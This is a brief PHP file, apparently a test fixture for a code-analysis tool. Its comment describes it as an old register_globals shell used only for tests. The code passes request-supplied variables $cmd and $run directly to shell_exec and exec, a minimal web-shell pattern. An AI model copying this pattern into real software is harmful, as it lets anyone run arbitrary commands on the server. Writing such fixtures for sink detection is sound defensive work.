<?php
// an old register_globals shell: $cmd comes from the request by itself; shell_exec and a
// lone exec() are sinks, not the out-parameter of exec($command, $output) (written for the
// tests, never run)
if ($cmd != "")
    print Shell_Exec($cmd);
if ($run)
    exec($run);
